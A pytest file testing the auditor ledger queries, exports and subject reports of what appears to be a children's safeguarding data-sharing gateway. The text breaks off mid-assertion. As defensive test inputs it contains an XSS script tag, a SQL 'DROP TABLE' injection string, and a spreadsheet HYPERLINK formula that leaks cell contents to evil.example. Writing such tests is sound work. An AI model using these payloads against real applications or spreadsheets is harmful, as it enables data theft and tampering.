"""The auditor's routes against a real app and a real SQLite file: query filters, exports, the subject report,
oversight statistics. Data is seeded through the API (shares, decisions, fetches, revocations), except for the
large-export test, which appends 20,000 entries through the store's own `append_entry`."""

from __future__ import annotations

import asyncio
import base64
import concurrent.futures
import copy
import csv
import hashlib
import io
import json
import re
import shutil
import sqlite3
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import aiohttp
import pyrage
import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer

from gateway.api import ledger as ledger_api
from gateway.app import create_app
from gateway.auth import EmbeddedIssuer
from gateway.config import Limits, Settings
from gateway.home import HomeKeys, init_home
from gateway.ledger import entry as E
from gateway.ledger.checkpoint import Checkpoint
from gateway.ledger.entry import canonical
from gateway.store.sqlite import LedgerConnection, append_entry, queries
from tests.conftest import Api, api_settings, example

PAYLOAD = b"Chronology and referral form (test payload)."
#: The seeded ledger spans several organisations, and these tests read all of it: the partnership-wide role
#: (an organisation's own auditor sees only its entries: tests/test_tenants.py).
AUDITOR = ("audrey", "partnership_auditor")
HEREFORD = "Hereford Council"
LEOMINSTER = "Leominster Council"


# -- seeding -----------------------------------------------------------------------------------------------


def variant(
    base: dict[str, Any],
    *,
    purpose: str | None = None,
    description: str | None = None,
    subjects: list[str] | None = None,
    basis: dict[str, Any] | None = None,
) -> dict[str, Any]:
    """A copy of a fixture justification with another purpose, subjects or lawful basis."""
    j = copy.deepcopy(base)
    if purpose is not None:
        j["purpose"]["code"] = purpose
    if description is not None:
        j["purpose"]["description"] = description
    if subjects is not None:
        j["subjects"] = [{"ref": ref, "role": "child"} for ref in subjects]
        j["rules"]["5_safety_wellbeing"]["at_risk"] = list(subjects)
    if basis is not None:
        j["rules"]["1_lawful_basis"] = basis
    return j


async def share_as(
    api: Api,
    sender: str,
    org: str,
    recipients: list[str],
    justification: dict[str, Any],
    **extra: Any,
) -> dict[str, Any]:
    check = await api.client.post(
        "/api/v1/justifications/validate", json=justification, headers=api.auth(sender, "practitioner", org)
    )
    assert (await check.json())["valid"], await check.text()
    form = aiohttp.FormData()
    meta = {"recipients": recipients, "justification": justification, "payload_content_type": "text/plain", **extra}
    form.add_field("share", json.dumps(meta), content_type="application/json")
    form.add_field("payload", PAYLOAD, filename="payload", content_type="application/octet-stream")
    r = await api.client.post("/api/v1/shares", data=form, headers=api.auth(sender, "practitioner", org))
    assert r.status == 201, await r.text()
    return await r.json()


async def fetch(api: Api, share_id: str, recipient: str) -> None:
    r = await api.client.get(f"/api/v1/shares/{share_id}/envelope", headers=api.auth(recipient, "recipient"))
    assert r.status == 200, await r.text()
    await r.read()


@dataclass
class Seeded:
    """Share IDs by label, and every entry in the ledger (index -> entry) after seeding."""

    shares: dict[str, str]
    entries: dict[int, dict[str, Any]] = field(default_factory=dict)
    times: dict[int, str] = field(default_factory=dict)

    def label(self, index: int) -> str:
        e = self.entries[index]
        sid = e.get("share_id")
        name = next((k for k, v in self.shares.items() if v == sid), None)
        if e["kind"] == "share":
            return str(name)
        if e["kind"] == "decision":
            return "D1"
        if sid:
            return f"{e['kind']} {name}"
        return f"{e['kind']} {e['recipients'][0]['id']}"


async def auditor_get(api: Api, path: str, **params: str) -> aiohttp.ClientResponse:
    return await api.client.get(path, params=params, headers=api.auth(*AUDITOR))


async def all_entries(api: Api, **params: str) -> list[dict[str, Any]]:
    """Every page of a query, following next_cursor."""
    out: list[dict[str, Any]] = []
    cursor: str | None = None
    while True:
        page_params = {**params, "limit": "3", **({"cursor": cursor} if cursor else {})}
        r = await auditor_get(api, "/api/v1/ledger", **page_params)
        assert r.status == 200, await r.text()
        body = await r.json()
        out += body["entries"]
        cursor = body["next_cursor"]
        if cursor is None:
            return out


async def seed(
    api: Api, alice: Any, bob: Any, share_justification: dict[str, Any], not_share_justification: dict[str, Any]
) -> Seeded:
    """Four shares, a decision not to share, fetches, an expiry after max_downloads and a revocation.

    S1 CHILD-A  referral    public_task / SPI / p18              pat (Hereford)    -> alice  fetched
    S2 CHILD-B  emergency   vital_interests / health_social_care sam (Leominster)  -> bob    never fetched
    D1 ADULT-88-1930 not_share (other)                           sam (Leominster)
    S3 CHILD-A, CHILD-C  s47_enquiry  legal_obligation / SPI / p6  pat (Hereford)  -> alice, bob  revoked
    S4 CHILD-D  emergency   public_task / SPI / p18              pat (Hereford)    -> alice  fetched once, expired
    """
    await api.add_recipient("alice", alice, org="Hereford MASH")
    await api.add_recipient("bob", bob, org="Hereford Police PPU")
    base = share_justification
    s1 = await share_as(
        api,
        "pat",
        HEREFORD,
        ["alice"],
        variant(
            base,
            purpose="referral",
            description="Referral after a disclosure of bruising <script>alert('x')</script> at school.",
            subjects=["CHILD-A"],
        ),
    )
    s2 = await share_as(
        api,
        "sam",
        LEOMINSTER,
        ["bob"],
        variant(
            base,
            purpose="emergency",
            description="Emergency police protection overnight for a toddler.",
            subjects=["CHILD-B"],
            basis={
                "article_6": "vital_interests",
                "article_9": "health_social_care",
                "dpa_schedule_1": "p2_health_social_care",  # Article 9(2)(h) needs paragraph 2 (issue 19)
                "professional": "health_professional",  # and a professional under a duty of confidentiality
            },
        ),
    )
    r = await api.client.post(
        "/api/v1/decisions", json=not_share_justification, headers=api.auth("sam", "practitioner", LEOMINSTER)
    )
    assert r.status == 201, await r.text()
    s3 = await share_as(
        api,
        "pat",
        HEREFORD,
        ["alice", "bob"],
        variant(
            base,
            purpose="s47_enquiry",
            description="Strategy discussion minutes for the section 47 enquiry.",
            subjects=["CHILD-A", "CHILD-C"],
            basis={
                "article_6": "legal_obligation",
                "legal_duty": "children_act_1989_s47_assist",  # legal obligation names its duty (issue 19)
                "article_9": "substantial_public_interest",
                "dpa_schedule_1": "p6_statutory_purposes",
                "statutory_gateways": ["children_act_1989_s47"],  # paragraph 6 names its enactment
            },
        ),
    )
    s4 = await share_as(
        api,
        "pat",
        HEREFORD,
        ["alice"],
        variant(
            base, purpose="emergency", description="Emergency strategy: child missing overnight.", subjects=["CHILD-D"]
        ),
        max_downloads=1,
    )
    await fetch(api, s1["share_id"], "alice")
    await fetch(api, s4["share_id"], "alice")
    r = await api.client.post(
        f"/api/v1/shares/{s3['share_id']}/revoke",
        headers=api.auth("pat", "practitioner", HEREFORD),
        json={"reason": "sent to the wrong team"},
    )
    assert r.status == 200, await r.text()
    seeded = Seeded({"S1": s1["share_id"], "S2": s2["share_id"], "S3": s3["share_id"], "S4": s4["share_id"]})
    for e in await all_entries(api):
        seeded.entries[e["index"]] = e["entry"]
        seeded.times[e["index"]] = e["time"]
    return seeded


def keyed_connection(api: Api) -> sqlite3.Connection:
    """A second writer holding the gateway's entry-MAC key (as the CLI does): its entries are authenticated."""
    conn = sqlite3.connect(api.gateway.settings.db_path, isolation_level=None, factory=LedgerConnection)
    conn.ledger_mac_key = api.gateway.store.ledger_mac_key
    return conn


# The seeded ledger is built once per session, through the API of a real app on its own home directory
# (keys, SQLite file, envelopes), and each test that asks for `seeded` gets a copy of that home before its
# own app opens it: the same data, signed by the same keys, without replaying the seeding for every test.


@pytest.fixture(scope="session")
def identities() -> tuple[Any, Any]:
    """Alice's and Bob's age identities: the seeded home has their public keys registered."""
    return pyrage.x25519.Identity.generate(), pyrage.x25519.Identity.generate()


@pytest.fixture
def alice(identities: tuple[Any, Any]) -> Any:
    return identities[0]


@pytest.fixture
def bob(identities: tuple[Any, Any]) -> Any:
    return identities[1]


@pytest.fixture(scope="session")
def seeded_home(tmp_path_factory: pytest.TempPathFactory, identities: tuple[Any, Any]) -> tuple[Path, Seeded]:
    """The home directory (closed: every write committed) of an app seeded by `seed`, and what was seeded."""
    settings = api_settings(tmp_path_factory.mktemp("seeded") / "home")
    keys = init_home(settings)
    issuer = EmbeddedIssuer(keys.token_key, settings.issuer, settings.audience)

    def token(sub: str, role: str, org: str = "test-org", ttl: int = 600) -> str:
        return issuer.issue(sub, [role], org=org, ttl=ttl)

    async def build() -> Seeded:
        async with TestClient(TestServer(create_app(settings, keys))) as client:
            return await seed(Api(client, token), *identities, example("share"), example("not-share"))

    # Its own thread and event loop, whichever loop the first test that needs it runs in.
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        seeded = pool.submit(asyncio.run, build()).result(timeout=300)
    return settings.home, seeded


@pytest.fixture
def keys(settings: Settings, request: pytest.FixtureRequest) -> HomeKeys:
    """The conftest fixture, on a copy of the seeded home for a test that uses `seeded`."""
    if "seeded" in request.fixturenames:
        home, _ = request.getfixturevalue("seeded_home")
        shutil.copytree(home, settings.home)
    return init_home(settings)


@pytest.fixture
def seeded(api: Api, seeded_home: tuple[Path, Seeded]) -> Seeded:
    """`api` runs on a copy of the seeded home (see `keys`)."""
    assert api.gateway.settings.home != seeded_home[0]
    return copy.deepcopy(seeded_home[1])


def ledger_size(api: Api) -> int:
    conn = sqlite3.connect(api.gateway.settings.db_path)
    try:
        return int(conn.execute("SELECT count(*) FROM ledger").fetchone()[0])
    finally:
        conn.close()


async def checkpointed(api: Api) -> tuple[int, bytes]:
    """Wait for the background checkpointer to cover everything written so far; (size, note)."""
    size = ledger_size(api)
    for _ in range(200):
        r = await api.client.get("/api/v1/ledger/checkpoint")
        if r.status == 200 and int(r.headers["X-SafeShare-Tree-Size"]) >= size:
            return int(r.headers["X-SafeShare-Tree-Size"]), await r.read()
        await asyncio.sleep(0.05)
    raise AssertionError("no checkpoint covered the ledger within 10 s")


def leaf(data: bytes) -> bytes:
    return hashlib.sha256(b"\x00" + data).digest()


# -- query filters -----------------------------------------------------------------------------------------


def _orgs(e: dict[str, Any]) -> set[str]:
    actor = e.get("actor") or {}
    return {o for o in [actor.get("org"), *(r.get("org") for r in e.get("recipients") or [])] if o}


def _basis(e: dict[str, Any]) -> dict[str, Any]:
    return ((e.get("justification") or {}).get("rules") or {}).get("1_lawful_basis") or {}


# parameter, value, predicate over an entry (a reference implementation), labels expected
FILTERS: list[tuple[str, str, Callable[[dict[str, Any]], bool], set[str]]] = [
    ("subject", "CHILD-A", lambda e: "CHILD-A" in e.get("subjects", []), {"S1", "S3", "fetch S1", "revoke S3"}),
    ("subject", "CHILD-C", lambda e: "CHILD-C" in e.get("subjects", []), {"S3", "revoke S3"}),
    ("subject", "ADULT-88-1930", lambda e: "ADULT-88-1930" in e.get("subjects", []), {"D1"}),
    ("practitioner", "sam", lambda e: (e.get("actor") or {}).get("sub") == "sam", {"S2", "D1"}),
    ("practitioner", "alice", lambda e: (e.get("actor") or {}).get("sub") == "alice", {"fetch S1", "fetch S4"}),
    (
        "recipient",
        "bob",
        lambda e: any(r.get("id") == "bob" for r in e.get("recipients") or []),
        {"recipient_add bob", "S2", "S3", "revoke S3"},
    ),
    ("org", LEOMINSTER, lambda e: LEOMINSTER in _orgs(e), {"S2", "D1"}),
    (
        "org",
        "Hereford Police PPU",
        lambda e: "Hereford Police PPU" in _orgs(e),
        {"recipient_add bob", "S2", "S3", "revoke S3"},
    ),
    ("kind", "fetch", lambda e: e["kind"] == "fetch", {"fetch S1", "fetch S4"}),
    ("kind", "expire", lambda e: e["kind"] == "expire", {"expire S4"}),
    ("decision", "not_share", lambda e: e.get("decision") == "not_share", {"D1"}),
    ("decision", "share", lambda e: e.get("decision") == "share", {"S1", "S2", "S3", "S4"}),
    ("purpose", "emergency", lambda e: (e.get("purpose") or {}).get("code") == "emergency", {"S2", "S4"}),
    ("article_6", "vital_interests", lambda e: _basis(e).get("article_6") == "vital_interests", {"S2"}),
    ("article_6", "legal_obligation", lambda e: _basis(e).get("article_6") == "legal_obligation", {"S3"}),
    ("article_9", "health_social_care", lambda e: _basis(e).get("article_9") == "health_social_care", {"S2"}),
    (
        "article_9",
        "substantial_public_interest",
        lambda e: _basis(e).get("article_9") == "substantial_public_interest",
        {"S1", "S3", "S4"},
    ),
    (
        "dpa_schedule_1",
        "p18_safeguarding",
        lambda e: _basis(e).get("dpa_schedule_1") == "p18_safeguarding",
        {"S1", "S4"},
    ),
    (
        "dpa_schedule_1",
        "p6_statutory_purposes",
        lambda e: _basis(e).get("dpa_schedule_1") == "p6_statutory_purposes",
        {"S3"},
    ),
]


@pytest.mark.parametrize("param, value, predicate, labels", FILTERS, ids=[f"{p}={v}" for p, v, _, _ in FILTERS])
async def test_each_filter_returns_exactly_its_entries(
    api: Api, seeded: Seeded, param: str, value: str, predicate: Callable[[dict[str, Any]], bool], labels: set[str]
) -> None:
    got = await all_entries(api, **{param: value})
    expected = sorted((i for i, e in seeded.entries.items() if predicate(e)), reverse=True)
    assert [e["index"] for e in got] == expected  # exactly these, newest first, across pages
    assert {seeded.label(i) for i in expected} == labels
    assert 0 < len(expected) < len(seeded.entries)  # the filter both matches and excludes
    for e in got:
        assert base64.b64decode(e["leaf_hash"]) == leaf(canonical(e["entry"]))


async def test_filters_combine_and_time_range(api: Api, seeded: Seeded) -> None:
    got = await all_entries(api, subject="CHILD-A", kind="share")
    assert {seeded.label(e["index"]) for e in got} == {"S1", "S3"}
    got = await all_entries(api, org=HEREFORD, purpose="emergency")
    assert {seeded.label(e["index"]) for e in got} == {"S4"}
    got = await all_entries(api, q="emergency", practitioner="sam")
    assert {seeded.label(e["index"]) for e in got} == {"S2"}
    got = await all_entries(
        api, article_9="substantial_public_interest", dpa_schedule_1="p18_safeguarding", org=HEREFORD
    )
    assert {seeded.label(e["index"]) for e in got} == {"S1", "S4"}
    assert await all_entries(api, subject="CHILD-B", decision="not_share") == []

    # Time range: [from, to) on the entry's own time, compared with a reference filter.
    times = sorted(set(seeded.times.values()))
    lo, hi = times[len(times) // 3], times[2 * len(times) // 3]
    got = await all_entries(api, **{"from": lo, "to": hi})
    assert [e["index"] for e in got] == sorted((i for i, t in seeded.times.items() if lo <= t < hi), reverse=True)
    got = await all_entries(api, **{"from": lo, "to": hi, "kind": "share"})
    assert [e["index"] for e in got] == sorted(
        (i for i, t in seeded.times.items() if lo <= t < hi and seeded.entries[i]["kind"] == "share"), reverse=True
    )
    assert await all_entries(api, **{"from": "2999-01-01T00:00:00Z"}) == []


async def test_full_text_search_finds_words(api: Api, seeded: Seeded) -> None:
    cases = {
        "bruising": {"S1"},
        "BRUISING school": {"S1"},
        "emergency": {"S2", "S4"},
        "strateg*": {"S3", "S4"},
        "housing association": {"D1"},
        "overnight emergency": {"S2", "S4"},
        "script": {"S1"},
        "nothing-like-this": set(),
    }
    for q, labels in cases.items():
        got = await all_entries(api, q=q)
        assert {seeded.label(e["index"]) for e in got} == labels, q


HOSTILE_Q = [
    '"',
    '""',
    "*",
    "**",
    "AND OR NOT",
    "NEAR(",
    "NEAR(a b, 1",
    "(((",
    "a)) OR ((b",
    ")",
    "description:bruising",
    "^bruising",
    "-bruising",
    "bruising*:*",
    "'; DROP TABLE ledger; --",
    "\\",
    "{col1 col2}: x",
    "x" * 4_000,
    "emergency " * 40,
    "ṩ̈ũ̶̡ñ 漢字 😀",
    "_",
]


@pytest.mark.parametrize("q", HOSTILE_Q, ids=range(len(HOSTILE_Q)))
async def test_hostile_q_is_never_a_server_error(api: Api, seeded: Seeded, q: str) -> None:
    for fmt in ("json", "jsonl"):
        r = await auditor_get(api, "/api/v1/ledger", q=q, format=fmt)
        assert r.status in (200, 400), (q, r.status, await r.text())
        if r.status == 400:
            body = await r.json()
            assert body["error"] == "invalid_parameter" and body["field"] == "q", body
        else:
            await r.read()


async def test_overlong_q_is_refused(api: Api) -> None:
    r = await auditor_get(api, "/api/v1/ledger", q="x" * 6_000)
    assert r.status == 400 and (await r.json())["field"] == "q"
    # 10 kB does not even reach the app: aiohttp refuses request lines over 8 KiB (plain-text 400, not 500).
    r = await auditor_get(api, "/api/v1/ledger", q="x " * 5_000)
    assert r.status == 400


def test_fts_query_quotes_every_word() -> None:
    assert queries.fts_query('NEAR(a "b" OR c*') == '"NEAR" "a" "b" "OR" "c"*'
    assert queries.fts_query("café 47") == '"café" "47"'
    for bad in ["", "*", '"', "()", "x" * 501, " ".join(["w"] * 17)]:
        with pytest.raises(queries.QueryError):
            queries.fts_query(bad)


@pytest.mark.parametrize(
    "param",
    ["article_6", "article_9", "dpa_schedule_1", "purpose", "kind", "decision", "format", "from", "to", "limit"],
)
async def test_invalid_codes_are_400_naming_the_field(api: Api, param: str) -> None:
    r = await auditor_get(api, "/api/v1/ledger", **{param: "not-a-code"})
    assert r.status == 400
    body = await r.json()
    assert body["error"] == "invalid_parameter" and body["field"] == param
    if param not in ("from", "to", "limit"):
        assert "not-a-code" not in body["allowed"]


@pytest.mark.parametrize("recommended", [False, True], ids=["schema", "with-recommended-indexes"])
async def test_query_plans_walk_an_index_never_the_table(api: Api, seeded: Seeded, recommended: bool) -> None:
    """Guards the <100 ms at 1M entries: every filter drives from an index (see bench/bench_ledger_queries.py),
    also once the indexes recommended for `stats` exist."""
    if recommended:
        db = sqlite3.connect(api.gateway.settings.db_path)
        for statement in queries.RECOMMENDED_INDEXES:
            db.execute(statement)
        db.commit()
        db.close()
    conn = api.gateway.store.reader
    filters = [
        queries.AuditFilter(subject="CHILD-A"),
        queries.AuditFilter(practitioner="pat"),
        queries.AuditFilter(recipient="bob"),
        queries.AuditFilter(org=HEREFORD),
        queries.AuditFilter(kind="share"),
        queries.AuditFilter(decision="share"),
        queries.AuditFilter(purpose="emergency"),
        queries.AuditFilter(article_6="public_task"),
        queries.AuditFilter(article_9="health_social_care"),
        queries.AuditFilter(dpa_schedule_1="p18_safeguarding"),
        queries.AuditFilter(text=queries.fts_query("emergency")),
        queries.AuditFilter(time_from="2000-01-01T00:00:00.000Z", time_to="2999-01-01T00:00:00.000Z"),
        queries.AuditFilter(org=HEREFORD, kind="share", time_from="2000-01-01T00:00:00.000Z"),
    ]
    for f in filters:
        plan = await queries._plan(conn, f, 0, queries.MAX_INDEX)
        sql, args = queries._page_sql(plan, 50, descending=True)
        async with conn.execute("EXPLAIN QUERY PLAN " + sql, args) as cur:
            steps = [r[3] for r in await cur.fetchall()]
        scans = [s for s in steps if s.startswith("SCAN") and "VIRTUAL TABLE" not in s and s != "SCAN p"]
        assert scans == [], (f, steps)
        if plan.driver is not None and plan.driver.ordered:
            assert not any("TEMP B-TREE" in s for s in steps), (f, steps)


PLAN_CASES: list[dict[str, str]] = [
    {"q": "emergency", "purpose": "emergency"},
    {"q": "emergency", "practitioner": "sam"},
    {"q": "strateg*", "org": HEREFORD},
    {"subject": "CHILD-A", "kind": "share"},
    {"org": HEREFORD, "article_9": "substantial_public_interest", "decision": "share"},
    {"kind": "fetch"},
]


@pytest.mark.parametrize(
    "caps",
    [(1, 2, 0), (1, 2, 10**9), (10**9, 10**9, 0), (3, 4, 1)],
    ids=["all-broad-materialised", "all-broad-per-candidate", "all-selective", "mixed"],
)
async def test_every_plan_gives_the_same_answer(
    api: Api, seeded: Seeded, monkeypatch: pytest.MonkeyPatch, caps: tuple[int, int, int]
) -> None:
    """The planner's choices (driver, time bounds, how `q` is checked) change speed, never results."""
    times = sorted(set(seeded.times.values()))
    cases = [
        *PLAN_CASES,
        {"from": times[2], "to": times[-3]},
        {"from": times[2], "to": times[-3], "kind": "share"},
        {"from": times[1], "q": "emergency", "org": HEREFORD},
        {"from": times[4]},
        {"from": times[4], "kind": "fetch"},
        {"to": times[-2], "decision": "share"},
    ]
    expected = [[e["index"] for e in await all_entries(api, **params)] for params in cases]
    await checkpointed(api)
    estimate, broad, per_candidate = caps
    monkeypatch.setattr(queries, "ESTIMATE_CAP", estimate)
    monkeypatch.setattr(queries, "BROAD_CAP", broad)
    monkeypatch.setattr(queries, "TEXT_CHECK_PER_CANDIDATE", per_candidate)
    for params, want in zip(cases, expected, strict=True):
        assert [e["index"] for e in await all_entries(api, **params)] == want, params
        r = await auditor_get(api, "/api/v1/ledger", format="jsonl", **params)
        lines = (await r.read()).decode().splitlines()[1:]
        assert [json.loads(x)["index"] for x in lines] == sorted(want), params


# -- export ------------------------------------------------------------------------------------------------


def unquote_cell(cell: str) -> str:
    return cell[1:] if cell[:1] == "'" and cell[1:2] in ("=", "+", "-", "@", "\t", "\r") else cell


async def test_export_jsonl_carries_proof_material_and_checkpoint(api: Api, seeded: Seeded) -> None:
    size, note = await checkpointed(api)
    r = await auditor_get(api, "/api/v1/ledger", format="jsonl")
    assert r.status == 200
    assert r.headers["Content-Type"].startswith("application/x-ndjson")
    assert f'filename="safeshare-ledger-{size}.jsonl"' in r.headers["Content-Disposition"]
    assert r.headers["Content-Disposition"].startswith("attachment")
    assert base64.b64decode(r.headers["X-SafeShare-Checkpoint"]) == note
    lines = (await r.read()).decode().splitlines()
    first = json.loads(lines[0])
    assert first == {"checkpoint": {"size": size, "note": note.decode()}, "size": size}
    rows = [json.loads(line) for line in lines[1:]]
    assert [row["index"] for row in rows] == list(range(size))
    for row, raw in zip(rows, lines[1:], strict=True):
        assert base64.b64decode(row["leaf_hash"]) == leaf(canonical(row["entry"]))
        # The entry is the canonical bytes themselves, spliced in: hash them straight from the line too.
        entry_bytes = raw[raw.index('"entry":') + len('"entry":') : -1].encode()
        assert leaf(entry_bytes) == base64.b64decode(row["leaf_hash"])
        assert row["entry"]["index"] == row["index"] and row["kind"] == row["entry"]["kind"]
    # The checkpoint's root is the Merkle root over exactly the exported leaves.
    body = note[: note.rfind(b"\n\n") + 1]
    from gateway.ledger import merkle

    assert Checkpoint.parse(body).root_hash == merkle.root([base64.b64decode(x["leaf_hash"]) for x in rows])


async def test_export_csv_is_complete_and_injection_safe(api: Api, seeded: Seeded) -> None:
    size, note = await checkpointed(api)
    r = await auditor_get(api, "/api/v1/ledger", format="csv")
    assert r.status == 200 and r.headers["Content-Type"].startswith("text/csv")
    assert base64.b64decode(r.headers["X-SafeShare-Checkpoint"]) == note
    table = list(csv.reader(io.StringIO((await r.read()).decode(), newline="")))
    assert tuple(table[0]) == ledger_api.CSV_COLUMNS
    rows = [dict(zip(table[0], row, strict=True)) for row in table[1:]]
    assert [int(row["index"]) for row in rows] == list(range(size))
    for row in rows:
        entry_json = row["entry_json"].encode()
        assert base64.b64decode(unquote_cell(row["leaf_hash"])) == leaf(entry_json)
        assert canonical(json.loads(entry_json)) == entry_json
        entry = json.loads(entry_json)
        assert row["kind"] == entry["kind"] and row["time"] == entry["time"]
        assert row["subjects"] == ";".join(entry.get("subjects") or [])
    s3 = next(row for row in rows if row["kind"] == "share" and row["share_id"] == seeded.shares["S3"])
    assert s3["purpose_code"] == "s47_enquiry" and s3["article_6"] == "legal_obligation"
    assert s3["dpa_schedule_1"] == "p6_statutory_purposes" and s3["actor_org"] == HEREFORD
    assert s3["recipients"] == "alice (Hereford MASH); bob (Hereford Police PPU)"
    # Names beside the IDs (issue 13): the directory's here; no name anywhere for the sender, so the ID again.
    assert s3["recipient_names"] == "Alice (Hereford MASH); Bob (Hereford Police PPU)"
    assert s3["actor_name"] == s3["actor_sub"] and s3["actor_org_name"] == s3["actor_org"] == HEREFORD
    assert s3["subjects"] == "CHILD-A;CHILD-C"


async def test_csv_injection_is_neutralised(api: Api, alice: Any, share_justification: dict[str, Any]) -> None:
    await api.add_recipient("alice", alice)
    evil = '=HYPERLINK("https://evil.example/x?leak="&A1,"Click for details")'
    j = variant(share_justification, description=evil, subjects=["CHILD-X"])
    await share_as(api, "@mallory", "+44 Council", ["alice"], j)
    await share_as(
        api,
        "-pat",
        "\tTabbed Org",
        ["alice"],
        variant(share_justification, description="+1 line", subjects=["CHILD-X"]),
    )
    await checkpointed(api)  # the export stops at the latest signed checkpoint
    r = await auditor_get(api, "/api/v1/ledger", format="csv", subject="CHILD-X")
    table = list(csv.reader(io.StringIO((await r.read()).decode(), newline="")))
    rows = [dict(zip(table[0], row, strict=True)) for row in table[1:]]
    assert len(rows) == 2
    by_desc = {row["purpose_description"]: row for row in rows}
    assert "'" + evil in by_desc
    assert by_desc["'" + evil]["actor_sub"] == "'@mallory" and by_desc["'" + evil]["actor_org"] == "'+44 Council"
    assert by_desc["'+1 line"]["actor_sub"] == "'-pat" and by_desc["'+1 line"]["actor_org"] == "'\tTabbed Org"
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


async def test_filtered_export_matches_the_query(api: Api, seeded: Seeded) -> None:
    await checkpointed(api)
    for params in ({"subject": "CHILD-A"}, {"purpose": "emergency"}, {"q": "emergency", "org": HEREFORD}):
        expected = sorted(e["index"] for e in await all_entries(api, **params))
        r = await auditor_get(api, "/api/v1/ledger", format="jsonl", **params)
        lines = (await r.read()).decode().splitlines()
        assert [json.loads(x)["index"] for x in lines[1:]] == expected
        r = await auditor_get(api, "/api/v1/ledger", format="csv", **params)
        table = list(csv.reader(io.StringIO((await r.read()).decode(), newline="")))
        assert [int(row[0]) for row in table[1:]] == expected
    r = await auditor_get(api, "/api/v1/ledger", format="csv", cursor="3")
    assert r.status == 400 and (await r.json())["field"] == "cursor"


async def test_export_stops_at_the_checkpoint(
    api: Api, seeded: Seeded, not_share_justification: dict[str, Any]
) -> None:
    """Entries appended after the latest checkpoint are not in the export: it is exactly what was signed."""
    size, note = await checkpointed(api)
    conn = keyed_connection(api)
    try:
        # Hide newer checkpoints from the export by appending without giving the checkpointer a chance:
        # the entries land and the export runs before the next round (0.5 s).
        conn.execute("BEGIN IMMEDIATE")
        entry = E.decision_entry(
            time=E.utc_now(),
            actor=E.actor("late", "practitioner", None, "test"),
            justification=not_share_justification,
            policy={"id": "hmg-2018", "version": "1", "digest": "sha256:" + "0" * 64},
        )
        append_entry(conn, entry)
        conn.execute("COMMIT")
    finally:
        conn.close()
    r = await auditor_get(api, "/api/v1/ledger", format="jsonl")
    lines = (await r.read()).decode().splitlines()
    first = json.loads(lines[0])
    assert first["size"] == first["checkpoint"]["size"] == len(lines) - 1
    assert first["size"] in (size, size + 1)  # the checkpointer may or may not have run meanwhile


async def test_large_export_streams_in_chunks(
    api: Api, not_share_justification: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    n = 20_000
    conn = keyed_connection(api)
    try:
        conn.execute("BEGIN IMMEDIATE")
        for i in range(n):
            j = variant(not_share_justification, description=f"Bulk decision {i}", subjects=[f"BULK-{i % 500}"])
            j["subjects"][0]["role"] = "adult_at_risk"
            append_entry(
                conn,
                E.decision_entry(
                    time=E.utc_now(),
                    actor=E.actor(f"p{i % 50}", "practitioner", f"Org {i % 7}", "test"),
                    justification=j,
                    policy={"id": "hmg-2018", "version": "1", "digest": "sha256:" + "0" * 64},
                ),
            )
        conn.execute("COMMIT")
    finally:
        conn.close()
    size, _ = await checkpointed(api)
    assert size == n

    writes: list[int] = []
    real_write = web.StreamResponse.write

    async def counting_write(self: web.StreamResponse, data: bytes) -> None:
        writes.append(len(data))
        await real_write(self, data)

    monkeypatch.setattr(web.StreamResponse, "write", counting_write)
    r = await auditor_get(api, "/api/v1/ledger", format="jsonl")
    assert r.status == 200
    count, chunks = -1, 0
    buf = b""
    async for chunk in r.content.iter_any():
        chunks += 1
        buf += chunk
        *complete, buf = buf.split(b"\n")
        count += len(complete)
    assert buf == b"" and count == n
    assert len(writes) >= n // ledger_api.EXPORT_PAGE_SIZE  # one write per database page, not one blob
    assert max(writes) < 8 * 1024 * 1024
    assert r.headers.get("Transfer-Encoding") == "chunked" and "Content-Length" not in r.headers

    writes.clear()
    r = await auditor_get(api, "/api/v1/ledger", format="csv", practitioner="p7")
    table = list(csv.reader(io.StringIO((await r.read()).decode(), newline="")))
    assert len(table) - 1 == n // 50
    assert len(writes) >= 2


async def test_export_without_a_checkpoint_says_so(
    aiohttp_client: Any, tmp_path: Path, not_share_justification: dict[str, Any]
) -> None:
    settings = Settings(
        home=tmp_path / "nocp",
        checkpoint_interval_seconds=0,
        expiry_sweep_seconds=3600.0,
        limits=Limits(max_payload_bytes=1024 * 1024),
    )
    keys = init_home(settings)
    issuer = EmbeddedIssuer(keys.token_key, settings.issuer, settings.audience)
    api = Api(
        await aiohttp_client(create_app(settings, keys)),
        lambda sub, role, org="o", ttl=600: issuer.issue(sub, [role], org=org, ttl=ttl),
    )
    for _ in range(3):
        r = await api.client.post(
            "/api/v1/decisions", json=not_share_justification, headers=api.auth("p", "practitioner")
        )
        assert r.status == 201
    r = await auditor_get(api, "/api/v1/ledger", format="jsonl")
    assert "X-SafeShare-Checkpoint" not in r.headers and r.headers["X-SafeShare-Export-Size"] == "3"
    lines = (await r.read()).decode().splitlines()
    assert json.loads(lines[0]) == {"checkpoint": None, "size": 3}
    assert [json.loads(x)["index"] for x in lines[1:]] == [0, 1, 2]
    r = await auditor_get(api, "/api/v1/ledger/report", subject="ADULT-88-1930", format="json")
    report = await r.json()
    assert report["checkpoint"] is None and report["count"] == 3
    assert all(e["inclusion_verified"] is None for e in report["events"])
    r = await auditor_get(api, "/api/v1/ledger/report", subject="ADULT-88-1930")
    assert "No signed checkpoint exists yet" in await r.text()


# -- subject report ----------------------------------------------------------------------------------------


async def test_report_html_is_escaped_self_contained_and_stamped(api: Api, seeded: Seeded) -> None:
    size, note = await checkpointed(api)
    r = await auditor_get(api, "/api/v1/ledger/report", subject="CHILD-A")
    assert r.status == 200 and r.headers["Content-Type"].startswith("text/html")
    assert "default-src 'none'" in r.headers["Content-Security-Policy"]
    page = await r.text()
    assert "CHILD-A" in page
    assert seeded.shares["S1"] in page and seeded.shares["S3"] in page
    assert seeded.shares["S2"] not in page  # another child's share
    for title in ("Shared", "Downloaded: 1 download", "Withdrawn (share revoked)", "Rule 1 — Lawful basis"):
        assert title in page
    assert "Rule 7 — Record" in page
    # Plain words from the policy's own labels, never its codes; UK local times; whose entries on the cover.
    for code in ("public_task", "p18_safeguarding", "would_prejudice_protection", "safeguarding_concern"):
        assert code not in page, code
    assert "Public task — Art 6(1)(e)" in page
    assert "All organisations in the partnership" in page and "all times are UK time" in page
    assert re.search(
